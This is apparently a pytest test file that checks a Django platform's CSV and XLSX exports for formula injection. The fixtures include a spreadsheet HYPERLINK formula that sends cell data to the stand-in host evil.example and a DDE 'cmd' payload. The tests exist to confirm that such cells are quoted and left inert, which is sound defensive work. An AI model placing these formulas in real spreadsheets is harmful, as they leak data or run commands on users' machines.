"""Every CSV and XLSX export writes a user's formula as inert text (OWASP CSV injection), numbers as numbers."""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from apps.core.exports import csv_writer, safe_cell, xlsx_append
from tests.factories import MembershipFactory, UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def inert(cell: str) -> bool:
    """What a spreadsheet would not evaluate: not starting with a formula character, or quoted."""
    return cell.startswith("'") or not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or bool(re.fullmatch(r"-\d+(?:[.,]\d+)?", cell))


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_quotes_every_formula_start(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("number", ["-12,5", "-3.25", "+31", "-1e3", "42"])
def test_plain_numbers_as_text_stay_numbers(number):
    assert safe_cell(number) == number


def test_csv_writer_keeps_numbers_numeric_with_a_decimal_comma():
    from decimal import Decimal

    out = io.StringIO()
    csv_writer(out, delimiter=";", decimal_comma=True).writerow([Decimal("-12.50"), -3, FORMULA, "gewoon"])
    assert csv_cells(out.getvalue(), ";") == ["-12,50", "-3", "'" + FORMULA, "gewoon"]


def test_xlsx_stores_text_as_strings_never_formulas_and_numbers_as_numbers():
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    xlsx_append(sheet, ["kop", "getal"])
    xlsx_append(sheet, [FORMULA, -5])
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cell, number = load_workbook(io.BytesIO(out.getvalue())).active[2]
    assert cell.data_type == "s" and cell.value == FORMULA and cell.quotePrefix
    assert number.data_type == "n" and number.value == -5


@pytest.mark.django_db
def test_budget_csv_and_xlsx_exports_are_inert(client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from apps.budget import services
    from apps.budget.models import Taakveld
    from apps.budget.services import reference_load
    from apps.budget.tests.conftest import csv_bytes

    if not Taakveld.objects.exists():
        reference_load()
    m = MembershipFactory().municipality
    upload = SimpleUploadedFile("b.csv", csv_bytes([("7.4", FORMULA, "1000,00", "-250,00")]))
    budget = services.import_confirm(
        budget_import=services.import_from_upload(municipality=m, user=None, year=2026, version="primitive", number=0, upload=upload), user=None
    )
    client.force_login(UserFactory(municipality=m, role="coordinator"))
    kwargs = {"slug": m.slug, "pk": budget.pk}
    cells = csv_cells(client.get(reverse("budget_workspace:export_csv", kwargs=kwargs)).content.decode("utf-8"), ";")
    assert "'" + FORMULA in cells and all(inert(c) for c in cells)
    assert "-250,00" in cells  # a negative amount is a number
    xlsx = client.get(reverse("budget_workspace:export_xlsx", kwargs=kwargs)).content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    values = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row if c.value is not None]
    assert any(c.value == FORMULA and c.data_type == "s" and c.quotePrefix for c in values)
    assert any(c.data_type == "n" and c.value < 0 for c in values)


@pytest.mark.django_db
def test_policyscan_scan_csv_is_inert():
    from apps.policyscan import services
    from apps.policyscan.models import Document, Passage, PassageGoal, Scan

    m = MembershipFactory().municipality
    document = Document.objects.create(municipality=m, title=FORMULA, year=2026, format="text", pasted_text="x")
    scan = Scan.objects.create(document=document, status="done")
    passage = Passage.objects.create(scan=scan, index=0, text=FORMULA)
    PassageGoal.objects.create(passage=passage, scan=scan, goal_id=7, score=0.9, evidence=[{"kind": "term", "text": "@SUM(A1)"}])
    with translation.override("nl"):
        cells = csv_cells(services.scan_csv(scan), ";")
    assert "'" + FORMULA in cells and "'@SUM(A1)" in cells and all(inert(c) for c in cells)


@pytest.mark.django_db
def test_monitor_series_csv_open_sdg_zip_and_template_are_inert(client):
    from apps.monitor import opendata
    from apps.monitor.models import AdoptedIndicator, Indicator, Value

    m = MembershipFactory().municipality
    indicator = Indicator.objects.create(code="gm-x-1", goal_id=7, name_nl=FORMULA, name_en=FORMULA, unit_nl="-2+3", unit_en="-2+3", municipality=m)
    adoption = AdoptedIndicator.objects.create(municipality=m, indicator=indicator)
    Value.objects.create(municipality=m, indicator=indicator, year=2025, disaggregation="@SUM(A1)", value=-4.5)
    cells = csv_cells(opendata.series_csv(adoption).decode("utf-8"))
    assert "'@SUM(A1)" in cells and "-4.5" in cells and all(inert(c) for c in cells)
    with zipfile.ZipFile(
        io.BytesIO(opendata.open_sdg_zip(m, AdoptedIndicator.objects.filter(pk=adoption.pk).select_related("indicator")))
    ) as archive:
        data = [archive.read(n).decode() for n in archive.namelist() if n.startswith("data/")]
    cells = [c for text in data for c in csv_cells(text)]
    assert "'" + FORMULA in cells and "'@SUM(A1)" in cells and all(inert(c) for c in cells)
    client.force_login(UserFactory(municipality=m, role="coordinator"))
    cells = csv_cells(client.get(reverse("monitor_workspace:import_template", kwargs={"slug": m.slug})).content.decode("utf-8"), ";")
    assert "'-2+3" in cells and all(inert(c) for c in cells)


@pytest.mark.django_db
def test_tijdscapsule_tour_csv_is_inert():
    from apps.tijdscapsule import services
    from apps.tijdscapsule.models import Capsule, Visit

    user = UserFactory()
    Visit.objects.create(
        capsule=Capsule.current(),
        municipality=user.municipality,
        title=FORMULA,
        event_type="council_debate",
        start_date=dt.date(2027, 3, 1),
        end_date=dt.date(2027, 3, 1),
        address="+31 Markt",
        expected_audience=10,
        contact_name="@Lotte",
        contact_email="lotte@example.org",
        status="confirmed",
    )
    cells = csv_cells(services.tour_csv(today=dt.date(2027, 2, 1)))
    assert "'" + FORMULA in cells and "'@Lotte" in cells and all(inert(c) for c in cells)


def test_no_export_writes_csv_or_xlsx_around_the_safe_writer():
    """Every writer of a CSV or XLSX file in the platform's code is apps/core/exports.py."""
    from pathlib import Path

    from django.conf import settings

    csv_writers = re.compile(r"csv\.(writer|DictWriter)\(")
    # openpyxl writes: sheet.append(row) or sheet.cell(..., value=...) (apps.core.tabular's sheet.cell(row, col) only reads)
    sheet_writes = re.compile(r"\b(sheet|ws|worksheet)\.append\(|\.cell\([^)]*value\s*=")
    offenders = []
    for path in sorted((Path(settings.BASE_DIR) / "apps").rglob("*.py")):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if csv_writers.search(text) or ("Workbook()" in text and (sheet_writes.search(text) or "xlsx_append" not in text)):
            offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == []
